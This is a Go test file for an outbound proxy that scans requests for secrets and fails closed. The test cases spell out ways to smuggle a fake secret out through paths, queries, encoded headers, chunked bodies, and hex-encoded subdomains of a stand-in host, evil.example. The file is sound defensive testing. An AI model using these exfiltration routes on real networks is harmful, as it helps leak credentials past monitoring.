package egress

import (
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"testing/iotest"
	"time"
)

// sink is a server that keeps every byte it gets and never answers.
func sink(t *testing.T) (addr string, seen func() string) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var mu sync.Mutex
	var all bytes.Buffer
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				buf := make([]byte, 4096)
				for {
					n, err := c.Read(buf)
					mu.Lock()
					all.Write(buf[:n])
					mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
		}
	}()
	return l.Addr().String(), func() string {
		time.Sleep(100 * time.Millisecond)
		mu.Lock()
		defer mu.Unlock()
		return all.String()
	}
}

// longest returns the length of the longest beginning of a secret that a server saw.
func longest(seen, value string) int {
	for n := len(value); n > 3; n-- {
		if strings.Contains(seen, value[:n]) {
			return n
		}
	}
	return 0
}

func TestSecretDoesNotLeave(t *testing.T) {
	const value = "wholly-made-up-value-0123456789"
	filler := strings.Repeat("filler ", 20_000)
	b64 := base64.StdEncoding.EncodeToString([]byte("xx" + value + "yy"))
	for name, request := range map[string]string{
		"path":           "GET http://HOST/" + value + " HTTP/1.1\r\nHost: x\r\n\r\n",
		"query":          "GET http://HOST/?q=" + allPercent(value) + " HTTP/1.1\r\nHost: x\r\n\r\n",
		"header":         "GET http://HOST/ HTTP/1.1\r\nHost: x\r\nX-Data: " + b64 + "\r\n\r\n",
		"basic":          "GET http://HOST/ HTTP/1.1\r\nHost: x\r\nAuthorization: Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+value)) + "\r\n\r\n",
		"header's name":  "GET http://HOST/ HTTP/1.1\r\nHost: x\r\nX-" + fmt.Sprintf("%x", value) + ": 1\r\n\r\n",
		"short body":     fmt.Sprintf("POST http://HOST/ HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", len(value), value),
		"deep body":      fmt.Sprintf("POST http://HOST/ HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s%s%s", 2*len(filler)+len(b64), filler, b64, filler),
		"end of body":    fmt.Sprintf("POST http://HOST/ HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s%s", len(filler)+len(value), filler, value),
		"tiny chunks":    "POST http://HOST/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks(filler[:40_000]+value, 7) + "0\r\n\r\n",
		"CONNECT's name": "CONNECT " + fmt.Sprintf("%x", value) + ".evil.example:443 HTTP/1.1\r\n\r\n",
		"host":           "GET http://" + fmt.Sprintf("%x", value[:20]) + ".evil.example/" + value + " HTTP/1.1\r\nHost: x\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			addr, seen := sink(t)
			r := start(t, Options{Decide: inward, Scan: ExactScanner([][]byte{[]byte(value), []byte(value[:20])})})
			answer := r.ask(t, strings.ReplaceAll(request, "HOST", addr))
			if !strings.HasPrefix(answer, "403") || !strings.Contains(answer, RuleSecret) || strings.Contains(answer, value) {
				t.Errorf("answer %s", answer)
			}
			got := seen()
			if n := longest(got, value) + longest(got, b64[3:]); n > 0 {
				t.Errorf("%d bytes of the secret have left", n)
			}
			e := r.only(t)
			if e.Allowed || e.Rule != RuleSecret || strings.Contains(fmt.Sprintf("%+v", e), fmt.Sprintf("%x", value[:20])) {
				t.Errorf("entry %+v", e)
			}
		})
		t.Run(name+", wall removed", func(t *testing.T) {
			if strings.Contains(request, "evil.example") {
				t.Skip("goes to no server that exists here")
			}
			addr, seen := sink(t)
			r := start(t, Options{Decide: inward, Idle: 300 * time.Millisecond})
			r.ask(t, strings.ReplaceAll(request, "HOST", addr))
			got := seen()
			if name == "tiny chunks" {
				got = strings.NewReplacer("\r\n7\r\n", "", "\r\n", "").Replace(got)
			}
			if len(got) < 60 {
				t.Errorf("without the scan the server saw only %q", got)
			}
			if name == "short body" && longest(got, value) != len(value) {
				t.Errorf("without the scan the secret did not arrive: %q", got)
			}
		})
	}
}

func chunks(s string, n int) string {
	var b strings.Builder
	for len(s) > 0 {
		k := min(n, len(s))
		fmt.Fprintf(&b, "%x\r\n%s\r\n", k, s[:k])
		s = s[k:]
	}
	return b.String()
}

// Bodies that hold no secret pass byte for byte, in whatever pieces they come.
func TestScannedBodiesAreWhole(t *testing.T) {
	scan := ExactScanner([][]byte{[]byte("not-in-any-body")})
	for _, size := range []int{1, 100, holdBack - 1, holdBack, holdBack + batch, bodyBuf, bodyBuf + 1, 300_000} {
		data := make([]byte, size)
		rand.Read(data)
		for name, src := range map[string]io.Reader{
			"whole": bytes.NewReader(data), "halves": iotest.HalfReader(bytes.NewReader(data)),
			"bytes": iotest.OneByteReader(bytes.NewReader(data)), "with EOF": iotest.DataErrReader(bytes.NewReader(data)),
		} {
			g := &guarded{ReadCloser: io.NopCloser(src), scan: scan, buf: make([]byte, 0, bodyBuf)}
			if got, err := io.ReadAll(g); err != nil || !bytes.Equal(got, data) {
				t.Errorf("%s of %d: %d bytes, %v", name, size, len(got), err)
			}
		}
	}
}

// A body that breaks off is not completed, and a scan that fails lets nothing out.
func TestScanFailsClosed(t *testing.T) {
	broken := &guarded{ReadCloser: io.NopCloser(io.MultiReader(strings.NewReader("abc"), iotest.ErrReader(io.ErrUnexpectedEOF))),
		scan: ExactScanner(nil), buf: make([]byte, 0, bodyBuf)}
	if got, err := io.ReadAll(broken); err != io.ErrUnexpectedEOF || len(got) != 0 {
		t.Errorf("%q, %v", got, err)
	}
	addr, seen := sink(t)
	r := start(t, Options{Decide: inward, Scan: func([]byte) (string, bool) { panic("no") }})
	if answer := r.ask(t, "GET http://"+addr+"/ HTTP/1.1\r\nHost: x\r\n\r\n"); !strings.HasPrefix(answer, "403") {
		t.Errorf("answer %s", answer)
	}
	if got := seen(); got != "" {
		t.Errorf("the server saw %q", got)
	}
}

func TestBigScannedUpload(t *testing.T) {
	data := make([]byte, 3<<20)
	rand.Read(data)
	want := sha256.Sum256(data)
	s := serve(t, func(w http.ResponseWriter, r *http.Request) {
		h := sha256.New()
		io.Copy(h, r.Body)
		w.Write(h.Sum(nil))
	})
	r := start(t, Options{Decide: inward, Scan: ExactScanner([][]byte{[]byte("not-in-any-body")})})
	resp, err := r.client(t).Post("http://"+named(s), "text/plain", io.MultiReader(bytes.NewReader(data)))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if got, _ := io.ReadAll(resp.Body); !bytes.Equal(got, want[:]) {
		t.Error("the upload is not what was sent")
	}
	if e := r.only(t); e.Sent < int64(len(data)) {
		t.Errorf("entry %+v", e)
	}
}

// A secret that lies across the border of two scans is found, and none of it was released before: what the last
// scan has not seen whole is held back.
func TestSecretAcrossWindows(t *testing.T) {
	const value = "wholly-made-up-value-0123456789"
	const border = holdBack + batch // where a body that comes byte by byte is scanned first
	for at := border - len(value); at <= border; at++ {
		body := strings.Repeat(".", at) + value + strings.Repeat(".", 2*border)
		g := &guarded{ReadCloser: io.NopCloser(iotest.OneByteReader(strings.NewReader(body))),
			scan: ExactScanner([][]byte{[]byte(value)}), buf: make([]byte, 0, bodyBuf)}
		got, err := io.ReadAll(g)
		if err != errSecret || g.found() == "" {
			t.Errorf("at %d: %d bytes left, %v", at, len(got), err)
		}
		if rest := strings.Trim(string(got), "."); rest != "" {
			t.Errorf("at %d: %q of the secret was released", at, rest)
		}
	}
}
